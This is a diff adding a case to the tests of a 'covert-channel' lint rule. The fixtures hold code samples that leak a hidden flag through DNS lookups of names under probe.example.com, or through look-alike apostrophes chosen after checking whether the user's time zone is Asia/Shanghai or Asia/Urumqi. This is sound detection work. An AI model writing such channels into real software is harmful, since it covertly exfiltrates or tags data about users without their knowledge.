@@ -133,6 +133,7 @@ ruleTester('covert-channel', {
       ['a DNS name resolved through dns.promises', `const dns = require("dns");\ndns.promises.resolve(\`\${cn ? "a" : "b"}.probe.example.com\`);`, /encoded in a name looked up in DNS/],
       ['a DNS name looked up by a promisified lookup', `const look = require("util").promisify(require("dns").lookup);\nlook(\`\${cn ? "a" : "b"}.probe.example.com\`);`, /encoded in a name looked up in DNS/],
       ['the same call in both branches of an if', `if (cn) console.log("Today\\u2019s date"); else { console.log("Today's date"); }`, /look-alike or invisible characters: "Today's date" against/],
+      ['a check given by its name to then', `function watched(tz) { return ["Asia/Shanghai", "Asia/Urumqi"].includes(tz); } Promise.resolve(Intl.DateTimeFormat().resolvedOptions().timeZone).then(watched).then((hit) => send({ system: hit ? "It\\u2019s late" : "It's late" }));`, /look-alike variants/],
       ['a DNS TXT record of a name built from the flag', `resolver.resolveTxt(\`\${cn ? "a" : "b"}.probe.example.com\`, () => {});`, /encoded in a name looked up in DNS/],
     ] as const).map(([name, body, message]) => ({ code: `// ${name}\n${zone}\n${body}`, findings: [{ severity: 'critical' as const, line: body.startsWith('function') ? 3 : 2 + body.split('\n').length, message }] })),
     // Network cards compared with makers' prefixes (a hardware address is a machine's identity) steering whitespace.
